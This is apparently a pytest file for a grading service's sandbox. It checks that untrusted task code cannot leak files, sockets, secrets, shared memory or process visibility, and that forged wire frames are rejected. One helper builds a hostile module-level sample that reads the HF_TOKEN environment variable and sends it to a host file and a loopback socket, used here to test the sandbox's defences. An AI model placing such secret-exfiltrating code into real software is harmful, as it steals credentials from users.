"""Corpus code runs only in the sandbox, and what it leaves there dies with it (issue #21).

- a task reference that writes a file, opens a socket or reads the environment at module level does
  none of these when a grade runs it (the importer's probe of it: tests/test_importers.py);
- a worker's SysV shared memory is gone after its grade, and the next grade cannot see it;
- /proc in a worker lists only the worker's own processes;
- a forged frame is refused before its claimed size is buffered.
The namespaces need root; without it these tests skip (the grade records the layers as off).
"""
from __future__ import annotations

import dataclasses
import json
import os
import socket
import struct
import threading
import tracemalloc

import pytest

from grader import wire

ROOT = os.geteuid() == 0
needs_root = pytest.mark.skipif(not ROOT, reason="the sandbox's namespaces and uids need root")

GELU = ("import math, torch\n"
        "def run(x):\n"
        "    return 0.5 * x * (1.0 + torch.erf(x * (1.0 / math.sqrt(2.0))))\n")


class HostListener:
    """A TCP server on the host's loopback that counts the connections it accepts."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.sock.settimeout(0.2)
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.sock.close()


def hostile_module_level(marker: str, port: int) -> str:
    """Module-level code of a hostile reference: leak the token into a host file and over a socket."""
    return (f"import os, socket\n"
            f"_token = os.environ.get('HF_TOKEN', '')\n"
            f"try:\n"
            f"    open({marker!r}, 'w').write('ran ' + _token)\n"
            f"except OSError:\n"
            f"    pass\n"
            f"try:\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(_token.encode())\n"
            f"except OSError:\n"
            f"    pass\n")


@pytest.fixture
def listener():
    srv = HostListener()
    yield srv
    srv.close()


@needs_root
def test_confined_program_sees_only_its_own_processes_and_no_secret(monkeypatch):
    from grader.confine import run_confined

    monkeypatch.setenv("HF_TOKEN", "hf_secret_of_the_host")
    program = ("import os, sys\n"
               "pids = sorted(e for e in os.listdir('/proc') if e.isdigit())\n"
               "sys.stdout.write(repr((pids, os.getpid(), os.environ.get('HF_TOKEN'), os.getuid())))\n")
    run = run_confined(program, b"", 60)
    assert run.returncode == 0, run.stderr[-2000:]
    pids, me, token, uid = eval(run.stdout)  # noqa: S307 - our own program's repr
    assert pids == [str(me)] and me == 1, pids
    assert token is None
    assert uid != 0
    assert run.sandbox["pid_ns"] is True and run.sandbox["ipc_ns"] is True and run.sandbox["net_ns"] is True


@needs_root
def test_grade_runs_a_hostile_reference_only_in_the_sandbox(tmp_path, listener, monkeypatch):
    """A card whose reference misbehaves at module level: nothing leaves the sandbox, and the task is
    not graded on it (the reference defines no task), while the candidate is not floored as a cheat."""
    from grader.catalogue import load_catalogue
    from grader.contract import GradeRequest, Status
    from grader.service import GraderService

    monkeypatch.setenv("HF_TOKEN", "hf_secret_of_the_host")
    marker = tmp_path / "leaked"
    card = dataclasses.replace(load_catalogue()["gelu_fp32"], task_id="hostile_gelu",
                               reference=hostile_module_level(str(marker), listener.port) + GELU)
    cards = tmp_path / "cards.jsonl"
    cards.write_text(json.dumps(dataclasses.asdict(card)) + "\n")
    with GraderService(workers=1, catalogue_extra=[str(cards)]) as svc:
        r = svc.grade_one(GradeRequest(attempt_id="h", task_id="hostile_gelu", source=GELU, language="pytorch"))
    assert not marker.exists(), "the reference wrote a file on the host"
    assert listener.accepted == 0, "the reference reached a host socket"
    assert r.status is Status.INFRA_ERROR and "reference" in r.reason, (r.status, r.reason)


SHM = ("import ctypes, os\n"
       "_libc = ctypes.CDLL(None, use_errno=True)\n"
       "KEY = 0x4B5421\n"
       "def _others():\n"
       "    return [e for e in os.listdir('/proc') if e.isdigit() and e != str(os.getpid())]\n")
SHM_LEAVE = SHM + (
    "shmid = _libc.shmget(KEY, 64 << 20, 0o1000 | 0o666)\n"  # IPC_CREAT
    "assert shmid >= 0, ctypes.get_errno()\n"
    "_libc.shmat.restype = ctypes.c_void_p\n"
    "addr = _libc.shmat(shmid, None, 0)\n"
    "ctypes.memset(addr, 7, 64 << 20)\n"
    "_libc.shmdt(ctypes.c_void_p(addr))\n"
    "if _others():\n"
    "    raise RuntimeError(f'saw other processes: {_others()}')\n") + GELU
SHM_FIND = SHM + (
    "if _libc.shmget(KEY, 0, 0) >= 0:\n"
    "    raise RuntimeError('found the segment an earlier attempt left')\n") + GELU


def _host_segment_keys() -> set[int]:
    with open("/proc/sysvipc/shm") as f:
        next(f)
        return {int(line.split()[0]) for line in f if line.strip()}


@needs_root
def test_shared_memory_dies_with_the_worker_and_proc_shows_only_its_own():
    from grader.contract import GradeRequest, Status
    from grader.service import GraderService

    key = 0x4B5421
    assert key not in _host_segment_keys()
    with GraderService(workers=1) as svc:
        first = svc.grade_one(GradeRequest(attempt_id="leave", task_id="gelu_fp32", source=SHM_LEAVE,
                                           language="pytorch"))
        assert first.status is Status.CORRECT, first.reason  # it made its segment and saw only itself
        assert first.sandbox["ipc_ns"] is True and first.sandbox["pid_ns"] is True, first.sandbox
        assert key not in _host_segment_keys(), "the segment outlived its worker on the host"
        second = svc.grade_one(GradeRequest(attempt_id="find", task_id="gelu_fp32", source=SHM_FIND,
                                            language="pytorch"))
        assert second.status is Status.CORRECT, second.reason


def test_a_forged_frame_size_is_refused_before_anything_is_buffered():
    a, b = socket.socketpair()
    try:
        a.sendall(struct.pack("!IQ", 2, 4 << 30) + b"{}")
        tracemalloc.start()
        with pytest.raises(wire.FrameError, match="too large"):
            wire.recv(b, max_payload=0)  # a call's reply carries no payload
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < 1 << 20, peak
        cap = wire.REPLY_PAYLOAD_CAP["load"]
        a.sendall(struct.pack("!IQ", 2, cap + 1) + b"{}")
        with pytest.raises(wire.FrameError):
            wire.recv(b, max_payload=cap)
    finally:
        a.close()
        b.close()


def test_a_payload_is_read_into_one_buffer():
    a, b = socket.socketpair()
    try:
        wire.send(a, {"op": "load"}, b"x" * 1000)
        header, payload = wire.recv(b, max_payload=wire.REPLY_PAYLOAD_CAP["load"])
        assert header == {"op": "load"} and payload == b"x" * 1000
        assert isinstance(payload, bytearray)  # the buffer it was received into, not a copy of it
    finally:
        a.close()
        b.close()
